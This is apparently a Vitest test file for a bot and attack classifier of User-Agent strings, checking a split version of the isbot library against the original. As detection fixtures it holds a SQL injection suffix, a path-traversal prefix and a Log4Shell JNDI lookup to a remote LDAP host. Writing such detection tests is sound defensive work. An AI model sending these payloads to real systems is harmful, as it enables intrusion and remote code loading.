import { isbot as isbotItself, list } from 'isbot';
import { describe, expect, it } from 'vitest';
import { fixtureAgentsAsReceived } from '../helpers/fixture-agents.ts';
import { isbot, splitIsbotList } from '../../api/telemetry/classification/isbot-split.ts';
import { mayBeBot, showsWork } from '../../api/telemetry/classification/classify.ts';
import { ATTACK_MARKERS } from '../../api/telemetry/classification/attack-payload.ts';

const userAgents = fixtureAgentsAsReceived;

describe('isbot in two parts', () => {
  it('answers as isbot on every User-Agent of the fixtures', () => {
    expect(userAgents.length).toBeGreaterThan(20_000);
    expect(userAgents.filter((ua) => isbot(ua) !== isbotItself(ua))).toEqual([]);
    // Both answers occur: the comparison is not one of two constants.
    expect(userAgents.some(isbot)).toBe(true);
    expect(userAgents.some((ua) => !isbot(ua))).toBe(true);
  });

  it("answers the classifier's person gate, isbot or a word of work or an attack's marker, in one scan as the three do apart", () => {
    const marker = new RegExp(ATTACK_MARKERS.join('|'), 'i');
    const withMore = [
      ...userAgents,
      ...userAgents.slice(0, 500).map((ua) => `${ua} SiteThumbnailer`),
      ...userAgents.slice(500, 1000).map((ua) => `${ua}' OR 1=1--`),
      ...userAgents.slice(1000, 1500).map((ua) => `../../${ua}`),
      '',
      'ExtractorX',
      '${jndi:ldap://198.51.100.7:1389/a}',
    ];
    expect(withMore.filter((ua) => mayBeBot(ua) !== (isbot(ua) || showsWork(ua) || marker.test(ua)))).toEqual([]);
    // Strings only a word of work or only a payload flags are among them.
    expect(withMore.some((ua) => !isbot(ua) && showsWork(ua))).toBe(true);
    expect(withMore.some((ua) => !isbot(ua) && !showsWork(ua) && marker.test(ua))).toBe(true);
  });

  it('answers as isbot where each anchored pattern starts the string, and where it does not', () => {
    const { anchored } = splitIsbotList(list);
    expect(anchored.length).toBeGreaterThan(50);
    // The literal head of each anchored pattern ("^wget" gives "wget"), at the start and further in.
    const heads = anchored.map((p) => /^\^([a-z][a-z \-_.]*)/.exec(p)?.[1]).filter((h) => h !== undefined);
    expect(heads.length).toBeGreaterThan(50);
    const strings = heads.flatMap((h) => [h, `${h}/1.2 (x)`, `Mozilla/5.0 (X11) ${h}/1.2`, h.toUpperCase()]);
    expect(strings.filter((ua) => isbot(ua) !== isbotItself(ua))).toEqual([]);
    expect(strings.filter(isbot).length).toBeGreaterThan(heads.length);
  });

  it('keeps a pattern whose ^ anchors only its first branch among the unanchored ones', () => {
    expect(splitIsbotList(['^abc', '^ab|cd', '^a(b|c)', '^[|]x', 'x|^y'])).toEqual({
      anchored: ['^abc', '^a(b|c)', '^[|]x'],
      anywhere: ['^ab|cd', 'x|^y'],
    });
  });

  it('answers false for the empty string, as isbot does', () => {
    expect(isbot('')).toBe(false);
  });
});
